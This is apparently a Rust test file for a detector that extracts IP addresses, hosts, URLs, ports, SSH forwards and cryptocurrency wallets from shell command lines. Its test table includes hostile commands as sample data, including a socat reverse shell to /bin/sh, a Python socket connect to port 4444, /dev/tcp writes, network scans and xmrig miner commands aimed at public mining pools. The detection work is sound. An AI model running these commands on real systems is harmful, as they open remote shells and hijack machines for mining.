//! What lines point at.

use crate::detect::command::*;

fn shown(literal: &Literal) -> String {
    let value = match &literal.kind {
        LiteralKind::Address(address) => address.to_string(),
        LiteralKind::Network(net) => net.to_string(),
        LiteralKind::Prefix(net) => format!("{net}~"),
        LiteralKind::Host(host) => host.clone(),
        LiteralKind::Url(url) => url.clone(),
        LiteralKind::Forward(forward) => format!("forward {}", forward.kind.name()),
        LiteralKind::Wallet(wallet) => format!("{} {}", wallet.coin, wallet.address),
    };
    let port = literal.port.map_or(String::new(), |port| format!(" {port}"));
    format!("{}{value}{port}", if literal.act { "" } else { "? " })
}

fn literals_of(text: &str) -> Vec<String> {
    let line = CommandLine::parse(text);
    let mut all: Vec<String> = literals(&line, text).iter().map(shown).collect();
    all.sort();
    all
}

const MONERO: &str = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";

/// `?` marks a mention. Derived by hand.
#[test]
fn literals_by_hand() {
    let table: &[(&str, &[&str])] = &[
        ("curl http://203.0.113.7:8080/x", &["203.0.113.7 8080", "http://203.0.113.7:8080/x 8080"]),
        ("curl -sSL https://mirror.example/x.sh", &["https://mirror.example/x.sh 443", "mirror.example 443"]),
        ("curl mirror.example/x", &["mirror.example", "mirror.example 80"]),
        ("nc -zv 10.30.0.20 22", &["10.30.0.20", "10.30.0.20 22"]),
        ("nc -w 3 db 5432", &["db 5432"]),
        ("echo > /dev/tcp/10.0.0.5/6379", &["10.0.0.5 6379"]),
        ("ssh -p 2222 root@jump", &["jump 2222"]),
        (
            "ssh -fNR 8080:localhost:80 -p 443 tun@jump.example",
            &["forward remote", "jump.example", "jump.example 443", "localhost 80"],
        ),
        ("nmap -p 22,80 10.30.0.0/24", &["10.30.0.0/24", "10.30.0.0/24 22", "10.30.0.0/24 80"]),
        (
            "for i in $(seq 1 2); do nc -z 10.30.0.$i 22; done",
            &["10.30.0.0/24~", "10.30.0.1", "10.30.0.1 22", "10.30.0.2", "10.30.0.2 22"],
        ),
        ("for i in $X; do ping -c1 10.30.0.$i; done", &["10.30.0.0/24~"]),
        (
            "xmrig -o stratum+tcp://pool.supportxmr.com:3333",
            &["pool.supportxmr.com 3333", "stratum+tcp://pool.supportxmr.com:3333 3333"],
        ),
        ("./m --url=gulf.moneroocean.stream:10128", &["gulf.moneroocean.stream 10128"]),
        ("socat TCP4:203.0.113.9:443 EXEC:/bin/sh", &["203.0.113.9 443"]),
        ("curl 'http://[2001:db8::1]:8080/'", &["2001:db8::1 8080", "http://[2001:db8::1]:8080/ 8080"]),
        ("ping6 2001:db8::7", &["2001:db8::7"]),
        ("python3 -c 's.connect((\"203.0.113.9\", 4444))'", &["203.0.113.9 4444"]),
        ("python3 - <<'E'\nfor i in range(9):\n  s.connect((f\"10.30.0.{i}\", 22))\nE", &["10.30.0.0/24~"]),
        (
            "python3 -c 'r.get(\"https://api.example.com/v1\")'",
            &["api.example.com 443", "https://api.example.com/v1 443"],
        ),
        ("scp f me@host.example:/tmp/", &["host.example"]),
        ("git clone git@github.com:a/b.git", &["github.com"]),
        ("redis-cli -h cache -p 6380 ping", &["cache 6380"]),
        ("echo 203.0.113.7", &["? 203.0.113.7"]),
        ("grep pool.supportxmr.com notes.txt", &["? pool.supportxmr.com"]),
        ("ls # see http://203.0.113.8/", &["? 203.0.113.8 80", "? http://203.0.113.8/ 80"]),
        // What is not a literal.
        ("python main.py --config settings.local.json", &[]),
        ("pip install foo==1.2.3.4 bar==2.0.1", &[]),
        ("cat src/lib.rs README.md ./run.sh", &[]),
        ("git checkout v1.2.3", &[]),
        ("python -m http.server", &[]),
        ("jq .name package.json", &[]),
        ("cargo test std::fs::read a::b", &[]),
        ("pytest tests/test_x.py::TestA::test_b", &[]),
        ("sed -i s/a.com/b.com/ f", &[]),
        ("curl -A 'Mozilla/5.0 Chrome/120.0.0.0' https://h.example/", &["h.example 443", "https://h.example/ 443"]),
    ];
    for (text, expected) in table {
        assert_eq!(literals_of(text), *expected, "{text}");
    }
}

#[test]
fn places_point_at_the_text() {
    let text = "bash -c 'nc 10.0.0.1 80' && curl http://h.example/x";
    let line = CommandLine::parse(text);
    for literal in literals(&line, text) {
        let expected = match &literal.kind {
            LiteralKind::Address(_) => "10.0.0.1",
            LiteralKind::Host(_) => "h.example",
            LiteralKind::Url(_) => "http://h.example/x",
            other => panic!("{other:?}"),
        };
        assert_eq!(&text[literal.range.clone()], expected);
    }
}

/// Vectors: Bitcoin's genesis address; BIP 173's P2WPKH example; Monero's donation address (getmonero.org);
/// EIP-55's first example. Each with one character changed where a checksum should catch it.
#[test]
fn wallets_by_published_vectors() {
    let coin = |text: &str| wallets(text).first().map(|(wallet, _)| (wallet.coin, wallet.checked));
    assert_eq!(coin("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"), Some(("BTC", true)));
    assert_eq!(coin("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb"), None);
    assert_eq!(coin("3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy"), Some(("BTC", true)));
    assert_eq!(coin("-u bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4.rig"), Some(("BTC", true)));
    assert_eq!(coin("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5"), None);
    assert_eq!(coin("bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0"), Some(("BTC", true)));
    assert_eq!(coin(MONERO), Some(("XMR", false)));
    assert_eq!(coin(&MONERO[..94]), None);
    assert_eq!(coin("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"), Some(("ETH", false)));
    assert_eq!(coin("0x0000000000000000000000000000000000000000"), None);
    assert_eq!(coin("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"), None);
    let text = format!("xmrig -o p.example:3333 -u {MONERO} -p x");
    assert!(literals_of(&text).contains(&format!("XMR {MONERO}")));
}
